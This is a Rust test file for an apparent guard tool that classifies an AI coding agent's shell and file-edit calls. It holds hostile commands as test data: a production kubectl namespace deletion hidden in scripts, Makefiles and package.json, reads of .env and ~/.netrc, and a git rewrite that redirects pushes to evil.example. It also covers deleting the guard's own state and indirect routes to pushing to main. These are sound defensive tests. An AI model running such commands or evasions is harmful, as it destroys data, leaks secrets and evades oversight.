use countersign_model::Resource;
use countersign_policy::{Proposal, build};

use super::*;
use crate::Report;

/// What the calls of one session, made in a directory, are said to do to remote repositories.
fn pushes(directory: &str, commands: &[&str]) -> Vec<String> {
    let effects = decided(directory, commands).into_iter().flat_map(|(effects, _)| effects);
    effects
        .filter(|effect| effect.verb.as_str().contains("push"))
        .map(|effect| format!("{} {}", effect.verb.as_str(), effect.resource))
        .collect()
}

/// What each of these commands of one session, made in a directory, does.
fn decided(directory: &str, commands: &[&str]) -> Vec<(Vec<Effect>, Decision)> {
    let call = |command: &&str| json!({ "tool": "Bash", "input": { "command": command }, "cwd": directory, "session": "s" });
    let text = commands.iter().map(|command| call(command).to_string()).collect::<Vec<_>>().join("\n");
    let history = History::of([("s.jsonl".to_owned(), countersign_agents::read(text.as_bytes()))]);
    let bundle = build(&Proposal::default()).unwrap();
    let decided = run(&history, &bundle, None, None, &|_| {}).decided;
    decided.into_iter().map(|one| (one.effects, one.decision)).collect()
}

#[test]
fn what_the_session_did_to_git_counts_for_the_next_push() {
    let last = |commands: &[&str]| pushes("/home/dev/shop", commands).pop().unwrap_or_default();
    let feature = "git checkout -b feature";
    for commands in [
        &[feature, "git checkout main", "git push"][..],
        &[feature, "git push", "git switch main", "git push origin HEAD"],
        &[feature, "git checkout other", "git checkout main", "git push"],
        &[feature, "git symbolic-ref HEAD refs/heads/main", "git push origin HEAD"],
        &[
            feature,
            "python3 -c \"import subprocess; subprocess.run(['git', 'checkout', 'main'])\"",
            "git push",
        ],
        &[feature, "git config remote.origin.push HEAD:refs/heads/main", "git push"],
        &[feature, "git branch -u origin/main && git config push.default upstream", "git push"],
        &[feature, "git checkout -", "git push"],
        &[feature, "git checkout main && git pull", "git checkout -", "git switch -", "git push"],
    ] {
        assert!(last(commands).starts_with("git.push main@origin"), "{commands:?}: {}", last(commands));
    }
    for commands in [
        &[feature, "git push"][..],
        &[feature, "git checkout main", "git checkout feature", "git push"],
        &[feature, "git config pull.rebase true", "git remote set-head origin main", "git push"],
        &[feature, "git branch --set-upstream-to=origin/feature feature", "git push"],
        &["git switch feature", "git push"],
    ] {
        let last = last(commands);
        assert!(
            last.starts_with("git.push feature@origin"),
            "{commands:?}: {:?}",
            pushes("/home/dev/shop", commands)
        );
    }
    // Where it goes now, or that nobody knows where.
    let address = |commands: &[&str]| {
        let (effects, _) = decided("/home/dev/shop", commands).pop().unwrap();
        let pushed = effects.into_iter().find_map(|effect| match effect.resource {
            Resource::Ref { repository, .. } => repository.remote,
            _ => None,
        });
        pushed.unwrap().url
    };
    let other = "git@github.com:acme/other.git";
    assert_eq!(address(&[&format!("git remote set-url origin {other}"), "git push"]).as_deref(), Some(other));
    assert_eq!(
        address(&[&format!("git remote add fork {other}"), "git push fork HEAD"]).as_deref(),
        Some(other)
    );
    for changed in
        ["git config url.git@evil.example:.pushInsteadOf git@github.com:", "printf x >> .git/config"]
    {
        assert_eq!(address(&[changed, "git push"]), None, "{changed}");
    }
}

#[test]
fn first_pushes() {
    let first = "git remote add origin https://github.com/acme/shop.git && git branch -M main && git push -u origin main";
    for directory in ["/home/dev/shop", "C:\\Users\\dev\\shop"] {
        for command in [first, "git branch -M main && git push -u origin main", "git push origin main"] {
            assert_eq!(pushes(directory, &[command]), ["git.push main@origin"], "{directory}: {command}");
        }
    }
}

/// Which verbs the last of these calls of one session has.
fn last(commands: &[&str]) -> String {
    let (effects, _) = decided("/home/dev/shop", commands).pop().unwrap();
    effects.iter().map(|effect| effect.verb.as_str()).collect::<Vec<_>>().join(" ")
}

#[test]
fn names_of_variables_that_nobody_tells() {
    for command in ["grep -o '^[^=]*' .env", "cat .env | sed 's/=.*/=<set>/'", "cut -d= -f1 .env.local"] {
        assert!(!last(&[command]).contains("secret.read"), "{command}: {}", last(&[command]));
    }
    assert!(last(&["cat .env"]).contains("secret.read"));
    assert!(last(&["cp ~/.netrc .env", "cut -d= -f1 .env"]).contains("secret.read"));
}

#[test]
fn scripts_that_the_session_wrote_in_the_shell_are_read() {
    let writes = "cat > d.sh <<'X'\nkubectl --context prod delete ns billing\nX";
    for commands in [
        &[writes, "sh d.sh"][..],
        &["echo 'kubectl delete ns billing' > e.sh", "bash e.sh"],
        &["printf 'set -e\n' > e.sh", "echo 'kubectl delete ns billing' >> e.sh", "bash e.sh"],
        &[writes, "cp d.sh e.sh", "sh e.sh"],
        &[writes, "mv d.sh e.sh && chmod +x e.sh", "./e.sh"],
        &["cat > e.py <<'X'\nimport os\nos.system('kubectl delete ns billing')\nX", "python3 e.py"],
    ] {
        assert!(last(commands).contains("kube.delete"), "{commands:?}: {}", last(commands));
    }
    let gone = "kubectl --context prod delete ns billing";
    for command in [
        format!("{writes}\nbash d.sh"),
        format!("echo '{gone}' > /tmp/d.sh && chmod +x /tmp/d.sh && /tmp/d.sh"),
        format!("cat > \"$PWD/d.sh\" <<X\n{gone}\nX\nsh d.sh"),
        format!("printf '%s\\n' '{gone}' > d.sh; source ./d.sh"),
        format!("echo '{gone}' >> d.sh; sh d.sh"),
        format!("tee d.sh <<X\n{gone}\nX\nsh d.sh"),
        format!("cat > d.py <<'X'\nimport os\nos.system('{gone}')\nX\npython3 d.py"),
        format!("printf 'gone:\\n\\t{gone}\\n' > Makefile && make gone"),
        format!("printf 'gone:\\n\\t{gone}\\n' > ops.mk && make -f ops.mk gone"),
        format!("echo '{{\"scripts\": {{\"gone\": \"{gone}\"}}}}' > package.json && npm run gone"),
        format!("printf 'gone:\\n  {gone}\\n' > justfile && just gone"),
    ] {
        assert!(last(&[&command]).contains("kube.delete"), "{command}: {}", last(&[&command]));
    }
    let harmless = "cat > d.py <<'X'\nprint(1)\nX\npython3 d.py; rm d.py";
    assert!(!last(&[harmless]).contains("opaque"), "{}", last(&[harmless]));
    for commands in [&["cat d.sh", "echo ls > d.sh; sh d.sh"][..], &["sed -i s/a/b/ d.sh; sh d.sh"]] {
        assert!(last(commands).contains("exec.opaque"), "{commands:?}: {}", last(commands));
    }
    for commands in [&[writes, "echo ls > d.sh", "sh d.sh"], &[writes, "rm d.sh", "sh d.sh"]] {
        assert!(!last(commands).contains("kube.delete"), "{commands:?}: {}", last(commands));
    }
}

/// Which verbs the last of these calls has: commands, and lines of tool calls.
fn last_of(calls: &[Value]) -> String {
    let line = |call: &Value| {
        let mut call = match call.as_str() {
            Some(command) => json!({ "tool": "Bash", "input": { "command": command } }),
            None => call.clone(),
        };
        for (key, value) in [("cwd", "/home/dev/shop"), ("session", "s")] {
            call.as_object_mut().unwrap().entry(key).or_insert_with(|| value.into());
        }
        call.to_string()
    };
    let text = calls.iter().map(line).collect::<Vec<_>>().join("\n");
    let mut history = History::of([("s.jsonl".to_owned(), countersign_agents::read(text.as_bytes()))]);
    let known = history.sessions.iter_mut().flat_map(|session| &mut session.calls);
    for (known, _) in known.zip(calls).filter(|(_, call)| call.get("failed").is_some()) {
        known.result = PastResult::Failed;
    }
    let bundle = build(&Proposal::default()).unwrap();
    let last = run(&history, &bundle, None, None, &|_| {}).decided.pop().unwrap();
    last.effects.iter().map(|effect| effect.verb.as_str()).collect::<Vec<_>>().join(" ")
}

#[test]
fn scripts_that_the_session_wrote_by_a_tool_are_read() {
    let text = "kubectl --context prod delete ns billing\n";
    let write =
        |path: &str, text: &str| json!({ "tool": "Write", "input": { "file_path": path, "content": text } });
    let edit = |old: &str, new: &str| json!({ "tool": "Edit", "input": { "file_path": "/home/dev/shop/d.sh", "old_string": old, "new_string": new } });
    let below = |call: Value| {
        let mut call = call;
        call["cwd"] = "/home/dev/shop/scripts".into();
        call
    };
    let failed = |call: Value| {
        let mut call = call;
        call["failed"] = true.into();
        call
    };
    let path = "/home/dev/shop/d.sh";
    for calls in [
        &[write(path, text), "bash d.sh".into()][..],
        &[write("d.sh", text), "bash d.sh".into()],
        &[write("./d.sh", text), "chmod +x d.sh".into(), "./d.sh".into()],
        &[below(write("d.sh", text)), "sh scripts/d.sh".into()],
        &[write("scripts/d.sh", text), "cd scripts && sh d.sh".into()],
        &[write("/tmp/d.sh", text), "sh /tmp/d.sh".into()],
        &[write(path, text), "mv d.sh e.sh".into(), "bash e.sh".into()],
        &[write(path, text), "cp d.sh e.sh".into(), "bash e.sh".into()],
        &[write(path, "ls\n"), "echo 'kubectl delete ns billing' >> d.sh".into(), "sh d.sh".into()],
        &[write(path, "#!/bin/sh\nls\n"), edit("ls\n", text), "sh d.sh".into()],
        &[edit("", text), "sh d.sh".into()],
        &["echo ls > d.sh".into(), edit("ls", text), "sh d.sh".into()],
        &[write(path, text), failed(edit("ls", "pwd")), "sh d.sh".into()],
        &[write(path, text), failed(write(path, "ls\n")), "sh d.sh".into()],
        &[write("Makefile", &format!("gone:\n\t{text}")), "make gone".into()],
        &[
            write("package.json", r#"{"scripts": {"gone": "kubectl --context prod delete ns billing"}}"#),
            "npm run gone".into(),
        ],
        &[
            json!({ "tool": "MultiEdit", "input": { "file_path": path, "edits": [
                { "old_string": "", "new_string": "ls\n" }, { "old_string": "ls\n", "new_string": text } ] } }),
            "sh d.sh".into(),
        ],
    ] {
        assert!(last_of(calls).contains("kube.delete"), "{calls:?}: {}", last_of(calls));
    }
    for calls in [
        &[write(path, text), write(path, "ls\n"), "sh d.sh".into()][..],
        &[write(path, text), edit(text, "ls\n"), "sh d.sh".into()],
        &[write(path, text), "rm d.sh".into(), "sh d.sh".into()],
    ] {
        assert!(!last_of(calls).contains("kube.delete"), "{calls:?}: {}", last_of(calls));
    }
    // An edit that does not fit says that what was known of the file is wrong.
    let lost = last_of(&[write(path, "ls\n"), edit("pwd", "ls"), "sh d.sh".into()]);
    assert!(lost.contains("exec.opaque"), "{lost}");
}

#[test]
fn our_own_home_is_where_it_usually_is() {
    for home in [
        "~/.local/state/countersign",
        "'/home/dev/Library/Application Support/countersign'",
        "~/.countersign",
    ] {
        let (effects, decision) = decided("/home/dev/shop", &[&format!("rm -rf {home}")]).pop().unwrap();
        assert!(effects.iter().any(|effect| effect.verb.as_str() == "countersign.tamper"), "{home}");
        assert_eq!(decision.kind.word(), "deny", "{home}");
    }
}

#[test]
fn modules_of_python_are_its_own() {
    let code = "python -c \"import json; print(json.load(open('.claude/settings.json')))\"";
    assert_eq!(last(&[code]), "fs.read exec.read");
    assert!(last(&["cp x json.py", code]).contains("tamper"));
    assert!(last(&["python -c \"import shop; print(open('.claude/settings.json'))\""]).contains("tamper"));
}

#[test]
fn no_secret_of_a_call_is_shown_anywhere() {
    let token = ["gh", "p_", "0123456789abcdefghijABCDEFGHIJ012345"].concat();
    let calls = [
        json!({ "tool": "Bash", "input": { "command": format!("npm install https://u:{token}@h.example/x.tgz") } }),
        json!({ "tool": "Write", "input": { "file_path": format!("/etc/{token}"), "content": "x" } }),
        json!({ "tool": format!("mcp__{token}__x"), "input": { "password": "hunter2/prod" } }),
        json!({ "tool": "Bash", "input": { "command": format!("git push origin main:{token}") } }),
        json!({ "tool": "Bash", "input": { "command": "gh secret set KEY -b hunter2/prod" } }),
        json!({ "tool": "Bash", "input": { "command": "sudo -S ls <<< hunter2/prod; rm /etc/hunter2/prod" } }),
    ];
    let text = calls.map(|call| call.to_string()).join("\n");
    let history = History::of([(format!("{token}.jsonl"), countersign_agents::read(text.as_bytes()))]);
    let bundle = build(&Proposal::default()).unwrap();
    let other = build(&Proposal { pack: policy::Pack::Observe, ..Proposal::default() }).unwrap();
    let simulation = run(&history, &bundle, Some(&other), None, &|_| {});
    assert_eq!(simulation.decided.len(), 6);
    let redactor = Redactor::new([0; 32]);
    let mut shown: Vec<String> =
        simulation.decided.iter().map(|one| one.line(&redactor).to_string()).collect();
    let report = Report::of(&history, &simulation, &bundle, Some(&other), None);
    shown.push(serde_json::to_string_pretty(&report).unwrap());
    for shown in shown {
        assert!(!shown.contains(&token) && !shown.contains("hunter2"), "{shown}");
    }
}
